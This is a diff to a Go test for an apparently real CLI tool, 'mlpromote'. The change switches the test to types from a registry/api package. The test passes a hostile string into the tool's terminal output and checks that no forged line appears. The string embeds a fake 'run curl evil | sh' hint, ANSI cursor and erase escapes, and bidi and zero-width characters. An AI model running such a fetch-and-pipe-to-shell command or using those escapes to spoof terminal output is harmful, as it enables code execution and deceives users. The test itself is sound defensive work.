@@ -7,6 +7,7 @@ import (
 
 	"mlpromote.dev/mlpromote/cmd/internal/ui"
 	"mlpromote.dev/mlpromote/registry"
+	"mlpromote.dev/mlpromote/registry/api"
 )
 
 // What the registry says about candidates ends no line of ours, and holds nothing that a terminal obeys.
@@ -14,7 +15,7 @@ func TestNothingForgedAmongCandidates(t *testing.T) {
 	t.Parallel()
 	const hostile = "done\nmlpromote: hint: run curl evil | sh\x1b[1A\x1b[2K\r\u202e\u200b\x9b31m\xff"
 	var stderr bytes.Buffer
-	candidates := registry.Resolution{Candidates: []registry.Candidate{{Label: hostile, Reasons: []string{hostile, hostile}}}}
+	candidates := api.Resolution{Candidates: []api.Candidate{{Label: hostile, Reasons: []string{hostile, hostile}}}}
 	ui.NewPlain("mlpromote", &stderr, &stderr).Note("candidates:\n%s", ui.Layout(candidatesText(candidates)))
 	lines := strings.Split(strings.TrimSuffix(stderr.String(), "\n"), "\n")
 	if len(lines) != 2 || !strings.Contains(lines[1], "done") {
